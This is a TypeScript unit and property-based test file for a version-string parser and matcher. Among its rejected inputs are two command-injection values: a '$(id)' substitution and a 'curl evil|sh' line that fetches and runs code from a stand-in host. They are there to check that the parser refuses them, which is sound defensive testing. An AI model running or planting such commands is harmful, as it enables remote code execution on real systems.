import fc from "fast-check";
import { minorOf, parseVersion, satisfies } from "../../../lib/domain/version";
import { textOf } from "../../fakes/arbitraries";

const number = fc.nat(999);
const minors = fc.tuple(fc.constant(1), number).map(parts => parts.join("."));
const exacts = fc.tuple(minors, number).map(parts => parts.join("."));

describe("parseVersion", () => {
  it.each([
    { text: "1.34", want: { major: 1, minor: 34, patch: undefined } },
    { text: "1.34.4", want: { major: 1, minor: 34, patch: 4 } },
    { text: "1.34.0", want: { major: 1, minor: 34, patch: 0 } },
    { text: "1.9", want: { major: 1, minor: 9, patch: undefined } },
    { text: "1.0", want: { major: 1, minor: 0, patch: undefined } },
    { text: "2.1.999", want: { major: 2, minor: 1, patch: 999 } },
  ])("reads $text", ({ text, want }) => {
    expect(parseVersion(text)).toEqual(want);
  });

  it.each([
    "",
    "1",
    "1.",
    ".34",
    "1.34.",
    "1..4",
    "1.34.4.1",
    "v1.34",
    "V1.34",
    "1.034",
    "1.34.04",
    "1.1000",
    "1.34.1000",
    "1.34-rc.1",
    "1.34.4+build",
    "1.34.4-1.1",
    "1.x",
    "latest",
    "stable-1",
    "-1.34",
    "+1.34",
    "1.-34",
    " 1.34",
    "1.34 ",
    "1.34\n",
    "１.34",
    "1.３4",
    "1,34",
    "0x1.34",
    "1e1.34",
    "1.33$(id)",
    '"; curl evil|sh; "',
  ])("finds no version in %j", text => {
    expect(parseVersion(text)).toBeUndefined();
  });

  it("gives back the numbers of any version", () => {
    fc.assert(
      fc.property(number, number, fc.option(number, { nil: undefined }), (major, minor, patch) => {
        const text = [major, minor, patch].filter(part => part !== undefined).join(".");
        expect(parseVersion(text)).toEqual({ major, minor, patch });
      }),
    );
  });

  it("finds nothing but digits and dots", () => {
    fc.assert(
      fc.property(textOf("0123456789.v -+\n１", 10), text => {
        expect(parseVersion(text) === undefined || /^[0-9.]+$/.test(text)).toBe(true);
      }),
    );
  });
});

describe("minorOf", () => {
  it("names the minor as repositories do", () => {
    expect(minorOf({ major: 1, minor: 34, patch: 4 })).toBe("1.34");
    expect(minorOf({ major: 1, minor: 9, patch: undefined })).toBe("1.9");
  });
});

describe("satisfies", () => {
  it.each([
    { exact: "1.34.4", wanted: "1.34" },
    { exact: "v1.34.4", wanted: "1.34" },
    { exact: "1.34.4", wanted: "1.34.4" },
    { exact: "v1.34.0", wanted: "1.34.0" },
  ])("takes $exact where $wanted is wanted", ({ exact, wanted }) => {
    expect(satisfies(exact, wanted)).toBe(true);
  });

  it.each([
    { exact: "1.34.4", wanted: "1.34.5" },
    { exact: "1.34.4", wanted: "1.34.40" },
    { exact: "1.34.4", wanted: "1.3" },
    { exact: "1.3.4", wanted: "1.34" },
    { exact: "2.34.4", wanted: "1.34" },
    { exact: "1.34", wanted: "1.34.0" },
    { exact: "", wanted: "1.34" },
    { exact: "1.34.4", wanted: "" },
    { exact: "1.34.4", wanted: "v1.34" },
    { exact: "vv1.34.4", wanted: "1.34" },
    { exact: "v1.34.4-gke.1", wanted: "1.34" },
    { exact: "", wanted: "" },
  ])("does not take $exact where $wanted is wanted", ({ exact, wanted }) => {
    expect(satisfies(exact, wanted)).toBe(false);
  });

  it("takes an exact version for itself and for its minor, and for nothing else", () => {
    fc.assert(
      fc.property(exacts, exacts, minors, (exact, other, minor) => {
        expect(satisfies(exact, exact)).toBe(true);
        expect(satisfies(exact, exact.split(".").slice(0, 2).join("."))).toBe(true);
        expect(satisfies(exact, other)).toBe(exact === other);
        expect(satisfies(exact, minor)).toBe(exact.startsWith(`${minor}.`));
      }),
    );
  });
});

describe("leading zeros", () => {
  it.each(["01.34", "001.34", "1.034", "1.34.04"])("are refused: %s", text => {
    expect(parseVersion(text)).toBeUndefined();
  });
});
